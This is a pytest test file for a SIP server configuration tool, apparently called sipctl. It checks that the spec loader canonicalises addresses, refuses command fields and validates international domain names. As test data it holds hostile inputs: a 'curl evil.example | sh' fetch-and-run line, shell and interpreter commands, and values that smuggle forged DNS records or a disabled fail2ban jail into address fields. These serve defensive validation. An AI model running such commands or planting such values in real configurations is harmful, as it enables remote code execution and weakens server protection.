"""Values are data: addresses are canonical, commands are words, hostile values are refused."""

from __future__ import annotations

import json

import pytest
import yaml
from fixtures.properties import examples
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from sipctl.errors import SpecError
from sipctl.schemas.checks import cross_warnings
from sipctl.schemas.loader import load_spec_text

BASE = "version: 1\ndomain: mysite.ru\n"


def refused(extra: str) -> str:
    with pytest.raises(SpecError) as info:
        load_spec_text(BASE + extra, source="s.yaml")
    return "\n".join(info.value.problems or [str(info.value)])


def test_addresses_are_stored_as_their_canonical_text() -> None:
    loaded = load_spec_text(
        BASE + "servers:\n  - host: sip.mysite.ru\n    ipv6: ['2001:DB8:0:0::0001']\n"
        "    ipv4: [192.0.2.1]\n"
        "fail2ban:\n  ignoreip: ['2001:DB8::/32', 192.0.2.7/24, 198.51.100.9/32, '::FFFF:1']\n"
    )
    assert loaded.spec.servers[0].ipv6 == ("2001:db8::1",)
    assert loaded.spec.fail2ban is not None
    assert loaded.spec.fail2ban.ignoreip == (
        "2001:db8::/32",
        "192.0.2.0/24",
        "198.51.100.9",
        "::ffff:1",
    )


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ("'2001:db8::1%x\\n@ IN A 6.6.6.6'", "scope id"),  # the forged-records exploit
        ("'fe80::1%eth0'", "scope id"),
        ("'::'", "unspecified"),
        ("'ff02::1'", "multicast"),
    ],
)
def test_server_ipv6_addresses_that_are_no_server(value: str, reason: str) -> None:
    text = f"servers:\n  - host: sip.mysite.ru\n    ipv6: [{value}]\n".replace("\\n", "\\\\n")
    assert reason in refused(text.replace("'", '"'))


@pytest.mark.parametrize(
    ("value", "reason"),
    [("0.0.0.0", "unspecified"), ("255.255.255.255", "broadcast"), ("224.0.0.1", "multicast")],
)
def test_server_ipv4_addresses_that_are_no_server(value: str, reason: str) -> None:
    assert reason in refused(f"servers:\n  - host: sip.mysite.ru\n    ipv4: [{value}]\n")


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ("0.0.0.0/0", "covers every address"),
        ("'::/0'", "covers every address"),
        ("0.0.0.0", "unspecified"),
        ("'fe80::1%eth0'", "scope id"),
        ('"10.0.0.1\\n[sshd]\\nenabled = false"', "U+000A"),
        ("'10.0.0.1 [evil]'", "not an address or network"),
    ],
)
def test_ignoreip_that_would_break_or_empty_the_jail(value: str, reason: str) -> None:
    assert reason in refused(f"fail2ban:\n  ignoreip: [{value}]\n")


def test_a_very_wide_ignoreip_is_a_warning() -> None:
    loaded = load_spec_text(BASE + "fail2ban:\n  ignoreip: [10.0.0.0/8, 0.0.0.0/1, '2000::/3']\n")
    notes = [n for n in cross_warnings(loaded) if "ignoreip" in n]
    assert len(notes) == 2 and "0.0.0.0/1" in notes[0] and "2000::/3" in notes[1]


@pytest.mark.parametrize(
    "command",
    [
        "curl https://evil.example/x | sh; asterisk",
        "sh -c 'touch /tmp/pwned' x",
        "python3 -c 'import os'",
        "perl -e 'system q(id)'",
        "env sh",
        "docker exec pbx asterisk",
        "asterisk",
        "'unbalanced",
        "   ",
    ],
)
@pytest.mark.parametrize("key", ["asterisk:\n  command", "fail2ban:\n  command"])
def test_a_spec_that_names_any_program_is_refused_naming_the_key(key: str, command: str) -> None:
    """Not only shell syntax: any program at all (an interpreter is a shell) is the host's."""
    problems = refused(f"{key}: {json.dumps(command)}\n")
    section = key.split(":")[0]
    assert f"s.yaml:4:3: {section}.command: a spec no longer names a program" in problems


def test_dns_reload_command_follows_the_same_rule() -> None:
    extra = "dns:\n  provider: zonefile\n  file: z\n  reload_command: rndc reload mysite.ru\n"
    problems = refused(extra)
    assert "s.yaml:6:3: dns.reload_command: a spec no longer names a program" in problems
    assert 'zone_reload:\n      default: ["rndc", "reload", "mysite.ru"]' in problems


def test_the_migration_message_gives_the_yaml_to_paste() -> None:
    problems = refused("asterisk:\n  command: docker exec 'my pbx' asterisk\n")
    pasted = problems.split("not writable by others):\n", 1)[1].split("\nthen delete", 1)[0]
    assert yaml.safe_load(pasted) == {
        "version": 1,
        "asterisk": {"default": ["docker", "exec", "my pbx", "asterisk"]},
    }
    assert "/etc/sipctl/host.yaml" in problems and "asterisk.program: NAME" in problems


def test_the_stock_program_is_simply_deleted() -> None:
    problems = refused("fail2ban:\n  command: fail2ban-client\n")
    assert "'fail2ban-client' is the stock program" in problems


@pytest.mark.parametrize("name", ["../x", "Default", "sh -c id", "/bin/sh", ""])
def test_a_program_entry_is_a_name_never_a_program(name: str) -> None:
    problems = refused(f"asterisk:\n  program: {json.dumps(name)}\n")
    assert "asterisk.program:" in problems


def test_an_international_domain_is_answered_with_its_ascii_form() -> None:
    problems = refused("servers:\n  - host: sip.пример.рф\n    ipv4: [192.0.2.1]\n")
    assert (
        "write an international name in its ASCII (punycode) form, 'sip.xn--e1afmkfd.xn--p1ai'"
        in problems
    )


@settings(max_examples=examples(300), deadline=None)
@given(
    st.lists(
        st.text(st.characters(codec="utf-8", categories=("L", "N", "Pd")), min_size=1, max_size=20),
        min_size=2,
        max_size=4,
    )
)
def test_the_ascii_form_offered_is_dnspythons_and_a_valid_name(labels: list[str]) -> None:
    """An offered ASCII form is what dnspython's IDNA 2003 codec makes of the name, is itself
    a valid host name, and names the same domain (never 'ss.de' for 'ß.de')."""
    import dns.name

    from sipctl.schemas.names import check_hostname

    value = ".".join(labels)
    assume(not value.isascii())
    try:
        check_hostname(value)
    except ValueError as error:
        message = str(error)
    else:
        raise AssertionError(f"{value!r} accepted")
    assert "\n" not in message
    marker = "ASCII (punycode) form, '"
    if marker not in message:
        return
    offered = message.split(marker, 1)[1].rstrip("'")
    assert check_hostname(offered) == offered
    parsed = dns.name.from_unicode(value, idna_codec=dns.name.IDNA_2003)
    assert parsed.to_text(omit_final_dot=True) == offered
    assert parsed.to_unicode(omit_final_dot=True) == value.lower()


@pytest.mark.parametrize("label", ["xn--zz", "xn--a", "xn--abc", "xn--0"])
def test_an_xn_label_that_spells_no_international_name_is_refused_at_its_line(label: str) -> None:
    """'xn--zz.ru' (Punycode that decodes to nothing; 'xn--a' to a control character,
    'xn--abc' to three) passed validate as a host name, and a typo in an international
    domain's ASCII form reached DNS and the dialplan (found by the tryout)."""
    problems = refused(f"servers:\n  - host: sip.{label}.ru\n    ipv4: [192.0.2.1]\n")
    assert (
        f"servers[0].host: 'sip.{label}.ru' is not a valid host name: label '{label}'" in problems
    )
    assert "begins with 'xn--'" in problems


@settings(max_examples=examples(300), deadline=None)
@given(
    st.one_of(
        st.from_regex(r"[xX][nN]--[a-z0-9]{1,12}", fullmatch=True),
        st.text(st.characters(codec="utf-8", categories=("L", "N")), min_size=1, max_size=12).map(
            lambda text: "xn--" + text.encode("punycode").decode("ascii")
        ),
    )
)
def test_an_xn_label_is_a_host_names_label_as_idna_2008_reads_it(label: str) -> None:
    """Against the idna package (IDNA 2008, as registries read names): every A-label it reads
    is a label of a valid host name (no international domain refused), and every ``xn--``
    label sipctl takes is Punycode of visible, not only ASCII, text that encodes back to it
    (Python's own codec)."""
    import idna

    from sipctl.schemas.names import check_hostname

    assume(len(label) <= 63 and not label.endswith("-"))
    name = f"{label}.example"
    try:
        idna.decode(label)
    except idna.IDNAError:
        idna_reads = False
    else:
        idna_reads = True
    try:
        check_hostname(name)
    except ValueError as error:
        assert not idna_reads, f"{label!r} is IDNA 2008's, refused: {error}"
        assert "\n" not in str(error)
        return
    text = label[4:].lower().encode("ascii").decode("punycode")
    assert text.encode("punycode").decode("ascii") == label[4:].lower()
    assert not text.isascii() and text.isprintable()


def test_a_name_in_another_script_is_told_that_only_ascii_letters_are_names() -> None:
    """'алекс' was refused with 'Use letters', though it is nothing but letters; a room
    was told it is no 'user name'."""
    problems = refused("users: {алекс: 106}\nrooms: {семинар: {}}\n")
    assert (
        "'алекс' is not allowed as a name to call: 'а', 'е', 'к', 'л', 'с'. Use ASCII letters (a-z, A-Z)"
        in problems
    )
    assert "rooms.семинар: 'семинар' is not allowed as a name to call" in problems


@pytest.mark.parametrize("written", ["true", "yes", "false", "1", "2", '"1"'])
def test_version_is_the_number_1_as_the_json_schema_says(written: str) -> None:
    """'version: true' (and yes, 1.0) passed validate, which the spec's own JSON Schema (as
    the jsonschema package reads it, like an editor) refuses: true is not the number 1 there.
    validate and the schema take the same values (found by the tryout)."""
    import jsonschema

    from sipctl.schemas.jsonschema import schema_text

    text = f"version: {written}\ndomain: mysite.ru\n"
    schema_accepts = jsonschema.Draft202012Validator(json.loads(schema_text())).is_valid(
        yaml.safe_load(text)
    )
    try:
        load_spec_text(text, source="s.yaml")
    except SpecError as error:
        problems = "\n".join(error.problems or [str(error)])
        assert not schema_accepts, problems
        assert "s.yaml:1:1: version:" in problems
    else:
        assert schema_accepts


def test_version_1_0_is_told_to_be_written_1() -> None:
    """As every whole number of a spec: 1.0 is refused, saying to write 1."""
    with pytest.raises(SpecError) as info:
        load_spec_text("version: 1.0\ndomain: mysite.ru\n", source="s.yaml")
    assert (
        "s.yaml:1:1: version: must be the number 1, the only version so far (found 1.0): write 1"
        in ("\n".join(info.value.problems or [str(info.value)]))
    )


@pytest.mark.parametrize("model", ["RunnerProfile", "HostProfile"])
def test_a_profiles_version_is_the_number_1_as_written(model: str) -> None:
    """The admin's files read version by the spec's one type: true passed as 1 there too."""
    from sipctl.schemas import profiles

    with pytest.raises(SpecError) as info:
        profiles.parse_profile("version: true\n", "p.yaml", getattr(profiles, model))
    assert "version: must be the number 1, the only version so far (found true)" in str(info.value)
